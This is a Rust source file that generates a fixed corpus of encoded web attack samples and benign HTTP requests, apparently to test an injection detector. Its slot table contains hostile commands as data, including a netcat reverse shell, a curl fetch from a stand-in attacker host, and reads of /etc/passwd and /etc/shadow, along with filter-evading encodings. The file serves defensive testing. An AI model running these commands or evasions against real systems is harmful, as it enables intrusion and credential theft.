//! The corpus, made from the seeds in `corpora/`: the same one each time.

/// What is missing in it is replaced: attacks by these, ordinary texts by others.
const SLOTS: [(&str, &[&str]); 12] = [
    ("«n»", &["1", "7", "13", "42", "99", "2024"]),
    ("«m»", &["2", "8", "21", "77", "1337"]),
    ("«o»", &["5", "17", "20", "31"]),
    ("«w»", &["a", "test", "foo", "admin", "x1", "evil"]),
    ("«t»", &["users", "accounts", "orders", "members"]),
    ("«h»", &["evil.example.net", "oob.example.org", "198.51.100.7"]),
    ("«f»", &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ"]),
    ("«a»", &["127.0.0.1", "file.txt", "8.8.8.8", "report.pdf", "10.1.2.3"]),
    (
        "«c»",
        &[
            "id",
            "whoami",
            "cat /etc/passwd",
            "ls -la /",
            "uname -a",
            "ping -c 3 10.0.0.1",
            "curl http://evil.example.net/x",
            "nc -e /bin/sh 10.0.0.1 4444",
            "sleep 5",
        ],
    ),
    ("«name»", &["O'Brien", "D'Angelo", "Anna Müller", "Jo Smith-Jones", "N'Golo Kanté", "María José", "Li Wei", "O’Hara"]),
    ("«city»", &["L'Aquila", "Berlin", "Saint-Jean-d'Angély", "St. John's", "København", "Coeur d'Alene"]),
    ("«sku»", &["A-100/B", "X_200;red", "C#-12", "1-2-3", "MUG+SPOON", "T&T-7"]),
];

/// How an attack is written.
pub(crate) const ENCODINGS: [&str; 5] = ["plain", "percent", "double percent", "entity or escape", "mixed"];

/// One attack.
#[derive(Debug)]
pub(crate) struct Attack {
    pub(crate) class: &'static str,
    pub(crate) encoding: &'static str,
    /// `value`, `path` or `agent`
    pub(crate) kind: &'static str,
    /// Of a seed that was written before the rules, and that nobody looked at while they were made.
    pub(crate) held_out: bool,
    pub(crate) text: String,
}

/// An ordinary request: fields of its query, of its header, and its body.
#[derive(Debug, Default)]
pub(crate) struct Ordinary {
    pub(crate) path: String,
    pub(crate) query: Vec<(&'static str, String)>,
    pub(crate) headers: Vec<(&'static str, String)>,
    pub(crate) body: Option<(&'static str, String)>,
    pub(crate) held_out: bool,
}

macro_rules! seeds {
    ($($class:literal)*) => {
        [$((
            $class,
            include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../corpora/attacks/seeds/", $class, ".txt")),
            include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../corpora/attacks/held_out/", $class, ".txt")),
        ),)*]
    };
}

macro_rules! ordinary {
    ($name:literal) => {
        include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../corpora/ordinary/", $name, ".txt"))
    };
}

const SEEDS: [(&str, &str, &str); 16] = seeds! {
    "sql" "nosql" "command" "ldap" "xpath" "template" "xss" "xxe" "crlf" "lookup" "deserialisation" "code" "traversal"
    "inclusion" "ssrf" "scanner"
};

/// Numbers that are the same each time (SplitMix64).
#[derive(Debug)]
pub(crate) struct Chance(pub(crate) u64);

impl Chance {
    pub(crate) fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % bound.max(1) as u64) as usize
    }

    fn of<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        &list[self.below(list.len())]
    }
}

fn filled(seed: &str, chance: &mut Chance) -> String {
    let mut text = seed.to_owned();
    for (slot, values) in SLOTS {
        if text.contains(slot) {
            text = text.replace(slot, chance.of::<&str>(values));
        }
    }
    text
}

/// Every attack in every encoding.
pub(crate) fn attacks() -> Vec<Attack> {
    let mut chance = Chance(7);
    let mut all = Vec::new();
    for (class, seeds, held_out) in SEEDS {
        for (lines, held_out) in [(seeds, false), (held_out, true)] {
            for line in lines.lines().filter(|line| !line.is_empty()) {
                for text in variants(line, &mut chance) {
                    let (kind, text) = placed(&text);
                    for encoding in ENCODINGS {
                        let text = encoded(&text, class, encoding, &mut chance);
                        all.push(Attack { class, encoding, kind, held_out, text });
                    }
                }
            }
        }
    }
    all
}

fn variants(line: &str, chance: &mut Chance) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for _ in 0..if line.contains('«') { 8 } else { 1 } {
        let text = filled(line, chance);
        if !all.contains(&text) {
            all.push(text);
        }
    }
    all
}

fn placed(line: &str) -> (&'static str, String) {
    if let Some(path) = line.strip_prefix("path ") {
        return ("path", path.to_owned());
    }
    if let Some(agent) = line.strip_prefix("agent ") {
        return ("agent", agent.to_owned());
    }
    match line.strip_prefix("json ").and_then(|text| serde_json::from_str(text).ok()) {
        Some(text) => ("value", text),
        None => ("value", line.to_owned()),
    }
}

fn encoded(text: &str, class: &str, encoding: &str, chance: &mut Chance) -> String {
    match encoding {
        "percent" => percent(text),
        "double percent" => percent(text).replace('%', "%25"),
        "entity or escape" => text.chars().enumerate().map(|(at, c)| escape(c, at)).collect(),
        "mixed" => mixed(text, class, chance),
        _ => text.to_owned(),
    }
}

fn percent(text: &str) -> String {
    let each = |byte: u8| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") };
    text.bytes().map(each).collect()
}

/// Whatever is no letter or digit, one way after the other.
fn escape(c: char, at: usize) -> String {
    if c.is_ascii_alphanumeric() || c == ' ' || u32::from(c) > 0xffff {
        return c.to_string();
    }
    match at % 4 {
        0 => format!("&#{};", u32::from(c)),
        1 => format!("&#x{:x};", u32::from(c)),
        2 => format!("\\u{:04x}", u32::from(c)),
        _ => match c {
            '<' => "&lt;".to_owned(),
            '>' => "&gt;".to_owned(),
            '"' => "&quot;".to_owned(),
            '\'' => "&apos;".to_owned(),
            '&' => "&amp;".to_owned(),
            other if other.is_ascii() => format!("\\x{:02x}", u32::from(other)),
            other => other.to_string(),
        },
    }
}

/// Letters of either case, and other blanks or comments; where case counts, some characters as `%HH`.
fn mixed(text: &str, class: &str, chance: &mut Chance) -> String {
    let sql = class == "sql";
    let cased = matches!(class, "sql" | "xss" | "xxe" | "ssrf" | "scanner" | "crlf" | "ldap" | "inclusion");
    if !cased {
        let each = |c: char| {
            if c.is_ascii() && chance.below(4) == 0 { format!("%{:02x}", u32::from(c)) } else { c.to_string() }
        };
        return text.chars().map(each).collect();
    }
    let plain = |c: char, chance: &mut Chance| if chance.below(2) == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    let mut quoted = false;
    let mut out = String::new();
    for c in text.chars() {
        quoted ^= c == '\'' && !sql;
        match c {
            ' ' if sql => out.push_str(chance.of::<&str>(&["/**/", "\t", " ", "/*x*/", "  "])),
            ' ' if class == "xss" && !quoted => out.push_str(chance.of::<&str>(&[" ", "\t", "\n", "  "])),
            c => out.push(plain(c, chance)),
        }
    }
    out
}

/// Ordinary requests, so many.
pub(crate) fn ordinary(count: usize) -> impl Iterator<Item = Ordinary> {
    let lines = |text: &'static str| text.lines().filter(|line| !line.is_empty()).collect::<Vec<_>>();
    let unescaped = |line: &str| {
        line.replace("\\\\", "\u{1}").replace("\\n", "\n").replace("\\r", "\r").replace("\\t", "\t").replace('\u{1}', "\\")
    };
    let prose: Vec<String> = lines(ordinary!("prose")).iter().map(|line| (*line).to_owned()).collect();
    let code: Vec<String> = lines(ordinary!("code")).iter().map(|line| unescaped(line)).collect();
    let held_out: Vec<String> = lines(ordinary!("held_out")).iter().map(|line| unescaped(line)).collect();
    let mut chance = Chance(11);
    (0..count).map(move |index| {
        let apart = index % 10 == 9;
        let text = |chance: &mut Chance| {
            let pool = match (apart, chance.below(5)) {
                (true, _) => &held_out,
                (_, 0..=2) => &prose,
                _ => &code,
            };
            let one = chance.of(pool).clone();
            match chance.below(6) {
                0 => format!("{one} {}", chance.of(pool)),
                1 => format!("{one}\n\n{}", chance.of(pool)),
                2 => format!("> {one}\n{}", chance.of(&prose)),
                _ => one,
            }
        };
        Ordinary { held_out: apart, ..request(index, &mut chance, &text) }
    })
}

const AGENTS: [&str; 9] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.5.0",
    "python-httpx/0.27.0",
    "Shop-App/4.2.1 (Android 14; SM-S911B)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
];
const REFERERS: [&str; 7] = [
    "https://shop.example.com/search?q=men%27s+shoes&sort=price",
    "http://localhost:3000/",
    "https://www.example.org/a/b?next=%2Forders%2F7&id=1",
    "https://shop.example.com/",
    "http://192.168.1.20:8080/dev",
    "android-app://com.example.shop/",
    "https://mail.example.com/u/0/#inbox/FMfcg%2Babc",
];
const COOKIES: [&str; 6] = [
    "sid=9f8a7c6d5e; theme=dark",
    "_ga=GA1.2.1234567890.1700000000; consent={\"a\":true,\"b\":false}",
    "cart=%7B%22items%22%3A%5B1%2C2%5D%7D; lang=de-DE,de;q=0.9",
    "token=eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "prefs=\"a|b|c\"; last=2024-06-01T10:00:00Z",
    "__Host-s=YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=; x=1",
];
const URLS: [&str; 10] = [
    "https://example.com/callback?code=abc&state=xyz",
    "http://127.0.0.1:51004/callback",
    "http://localhost:8080/login/oauth2/code/google",
    "https://cdn.example.com/img/a.png?w=100&h=200",
    "https://example.com/page.php?id=1&name=O%27Brien",
    "https://de.wikipedia.org/wiki/C%2B%2B",
    "mailto:jane@example.com?subject=Hi%20there",
    "https://maps.example.com/@52.52,13.405,12z",
    "https://user:pass@example.com/private",
    "https://example.com/a/../b",
];
const SEARCHES: [&str; 18] = [
    "men's shoes",
    "\"red shoes\"",
    "c++",
    "c#",
    "rock 'n' roll",
    "50% off",
    "a & b",
    "x > y",
    "1/2 inch",
    "5\" screen",
    "price:>10",
    "o'neill wetsuit",
    "select committee",
    "union jack",
    "drop shipping",
    "where the wild things are",
    "and then there were none",
    "tom & jerry",
];

fn request(index: usize, chance: &mut Chance, text: &dyn Fn(&mut Chance) -> String) -> Ordinary {
    let mut headers = vec![("user-agent", (*chance.of(&AGENTS)).to_owned())];
    if chance.below(2) == 0 {
        headers.push(("referer", (*chance.of(&REFERERS)).to_owned()));
    }
    if chance.below(2) == 0 {
        headers.push(("cookie", (*chance.of(&COOKIES)).to_owned()));
    }
    if chance.below(3) == 0 {
        headers.push(("x-forwarded-for", format!("203.0.113.{}, 10.0.0.{}", chance.below(250), chance.below(250))));
        headers.push(("x-client-version", "4.2.1-beta+7".to_owned()));
    }
    let path = match chance.below(6) {
        0 => "/orders".to_owned(),
        1 => format!("/orders/{index}/items/{}", chance.below(9)),
        2 => "/users/O'Brien/profile".to_owned(),
        3 => "/search".to_owned(),
        4 => format!("/files/report-{index}.final.pdf"),
        _ => "/wiki/C++/select-from-where".to_owned(),
    };
    let name = filled("«name»", chance);
    let mut query = Vec::new();
    if chance.below(2) == 0 {
        query.push(("q", (*chance.of(&SEARCHES)).to_owned()));
        query.push(("sort", ["price,-name", "name|id", "-created_at", "name asc"][chance.below(4)].to_owned()));
        query.push((
            "filter",
            ["price>10 and stock<5", "tag eq 'new'", "status:paid OR status:sent", "(a,b)"][chance.below(4)].to_owned(),
        ));
    }
    let mail = format!("jane.o'neil+{index}@example.com");
    let body = match chance.below(8) {
        0 | 1 => None,
        2 => Some(("application/x-www-form-urlencoded", form(&[("name", &name), ("email", &mail), ("comment", &text(chance))]))),
        3 => Some(("multipart/form-data; boundary=b7", multipart(&[("title", &text(chance)), ("note", &text(chance))]))),
        4 => Some(("text/plain", text(chance))),
        5 => Some(("application/json", rpc(chance, text).to_string())),
        _ => {
            let document = serde_json::json!({
                "id": format!("018f{:012x}", chance.below(1 << 40)),
                "customer": {"name": name, "email": mail, "city": filled("«city»", chance), "phone": "+49 (30) 1234-567"},
                "items": [{"sku": filled("«sku»", chance), "quantity": chance.below(9), "note": text(chance)}],
                "description": text(chance),
                "redirect_uri": URLS[chance.below(4)],
                "link": URLS[3 + chance.below(7)],
                "image": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
                "$schema": "https://json-schema.org/draft/2020-12/schema",
            });
            Some(("application/json", document.to_string()))
        }
    };
    Ordinary { path, query, headers, body, held_out: false }
}

fn rpc(chance: &mut Chance, text: &dyn Fn(&mut Chance) -> String) -> serde_json::Value {
    serde_json::json!({
        "jsonrpc": "2.0", "method": "docs/save", "id": chance.below(1000),
        "params": {"title": text(chance), "source": text(chance), "tags": ["c++", "a|b", "R&D", "x;y"], "math": "f'(x) = 2*x; x > 0 && x < 1",
            "regex": "^[a-z]+('[a-z]+)?$", "date": "2024-06-01T10:00:00+02:00", "path": "src/app/main.py", "version": ">=1.2,<2 || ~3.0"},
    })
}

fn form(pairs: &[(&str, &str)]) -> String {
    pairs.iter().map(|(name, value)| format!("{name}={}", percent(value))).collect::<Vec<_>>().join("&")
}

fn multipart(parts: &[(&str, &str)]) -> String {
    let each =
        |(name, value): &(&str, &str)| format!("--b7\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
    let file = "--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Jane's photo (1).png\"\r\nContent-Type: image/png\r\n\r\n\u{1}PNG' OR 1=1\r\n";
    format!("{}{file}--b7--\r\n", parts.iter().map(each).collect::<String>())
}

/// The query of a request, as it is sent.
pub(crate) fn query(request: &Ordinary) -> String {
    form(&request.query.iter().map(|(name, value)| (*name, value.as_str())).collect::<Vec<_>>())
}
